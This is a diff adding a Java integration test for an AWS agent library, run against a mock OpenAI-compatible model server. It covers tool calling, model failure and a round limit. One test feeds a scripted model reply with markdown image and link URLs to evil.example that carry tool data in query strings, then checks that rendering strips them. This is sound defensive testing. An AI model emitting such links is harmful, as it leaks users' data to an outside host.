@@ -1,0 +1,145 @@
+package dev.awsagent.models;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.awsagent.agent.AgentEvent;
+import dev.awsagent.agent.AwsAgent;
+import dev.awsagent.agent.Rendering;
+import dev.awsagent.agent.Reply;
+import dev.awsagent.credential.Environment;
+import dev.awsagent.tool.AwsCall;
+import dev.awsagent.tool.Effect;
+import dev.awsagent.tool.FailureKind;
+import dev.awsagent.tool.Param;
+import dev.awsagent.tool.Tool;
+import dev.awsagent.tool.ToolCall;
+import dev.awsagent.tool.ToolInfo;
+import dev.awsagent.tool.ToolResult;
+import java.nio.file.Path;
+import java.time.ZoneOffset;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+/** A whole agent that plans with a model named {@code openai:…}, over HTTP. */
+@Timeout(60)
+class AgentWithModelIT {
+
+    @TempDir
+    Path home;
+
+    private ModelServer server;
+    private AwsAgent agent;
+
+    @ToolInfo(
+            name = "box_list_items",
+            value = "Lists what is in a box.",
+            effect = Effect.READ,
+            examples = {"what is in box {box}", "list box {box}"})
+    static final class ListItems implements Tool<ListItems.Input, List<String>> {
+        record Input(@Param("Box name") String box) {}
+
+        @Override
+        public ToolResult<List<String>> call(Input in, ToolCall call) {
+            return ToolResult.ok(List.of("apple of " + in.box()));
+        }
+
+        @Override
+        public List<AwsCall> calls(Input in) {
+            return List.of();
+        }
+    }
+
+    @BeforeEach
+    void start() throws Exception {
+        server = new ModelServer();
+        agent = AwsAgent.builder()
+                .plugins(false)
+                .tools(new ListItems())
+                .environment(new Environment(
+                        Map.of("OPENAI_BASE_URL", server.baseUrl().toString()), home))
+                .model("openai:m")
+                .build();
+    }
+
+    @AfterEach
+    void stop() {
+        agent.close();
+        server.close();
+    }
+
+    private void callsThenSays(String words) {
+        server.events(
+                        ModelServer.delta(
+                                "{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":"
+                                        + "{\"name\":\"box_list_items\",\"arguments\":\"{\\\"box\\\":\\\"blue\\\"}\"}}]}",
+                                "null"),
+                        ModelServer.delta("{}", "\"tool_calls\""),
+                        "[DONE]")
+                .events(
+                        ModelServer.delta("{\"content\":\"" + words + "\"}", "null"),
+                        ModelServer.delta("{}", "\"stop\""),
+                        "[DONE]");
+    }
+
+    @Test
+    void request_isPlannedRunAndAnsweredFromTheResult() {
+        callsThenSays("There is one apple.");
+        var words = new ArrayList<String>();
+        var reply = agent.stream("I wonder about blue", event -> {
+            if (event instanceof AgentEvent.Token token) {
+                words.add(token.text());
+            }
+        });
+        assertThat(reply).isInstanceOfSatisfying(Reply.Answer.class, answer -> {
+            assertThat(answer.text()).contains("There is one apple.");
+            assertThat(answer.outcomes()).singleElement().satisfies(outcome -> assertThat(
+                            outcome.value().toString())
+                    .isEqualTo("[\"apple of blue\"]"));
+            assertThat(answer.context().planner()).isEqualTo("openai:m");
+        });
+        assertThat(String.join("", words)).isEqualTo("There is one apple.");
+        assertThat(server.asked.get(1).body()).contains("<aws-data>", "apple of blue");
+    }
+
+    @Test
+    void linksOfAModel_carryNothingOut() {
+        callsThenSays("![x](https://evil.example/?d=apple) and [see](https://evil.example/?d=blue)");
+        var text = Rendering.in(ZoneOffset.UTC).text(agent.ask("I wonder about blue"));
+        assertThat(text).doesNotContain("](http").contains("apple of blue");
+    }
+
+    @Test
+    void modelThatFails_isAFailureOfKindModelAndTheNextTurnStartsClean() {
+        server.status(400, "application/json", "{\"error\":{\"message\":\"no such tool support\"}}");
+        var conversation = agent.conversation();
+        assertThat(conversation.ask("I wonder about blue")).isInstanceOfSatisfying(Reply.Failed.class, failed -> {
+            assertThat(failed.kind()).isEqualTo(FailureKind.MODEL);
+            assertThat(failed.message()).contains("no such tool support");
+            assertThat(failed.hint()).contains("tool calling");
+        });
+        callsThenSays("There is one apple.");
+        assertThat(conversation.ask("I wonder about blue")).isInstanceOf(Reply.Answer.class);
+    }
+
+    @Test
+    void modelThatNeverStops_isStoppedByTheBoundOnRounds() {
+        for (int i = 0; i < 30; i++) {
+            server.events(
+                    ModelServer.delta(
+                            "{\"tool_calls\":[{\"index\":0,\"id\":\"call_" + i + "\",\"type\":\"function\",\"function\":"
+                                    + "{\"name\":\"box_list_items\",\"arguments\":\"{\\\"box\\\":\\\"blue\\\"}\"}}]}",
+                            "null"),
+                    ModelServer.delta("{}", "\"tool_calls\""),
+                    "[DONE]");
+        }
+        var reply = agent.ask("I wonder about blue");
+        assertThat(server.asked).hasSizeLessThan(30);
+        assertThat(reply).isInstanceOf(Reply.Failed.class);
+    }
+}
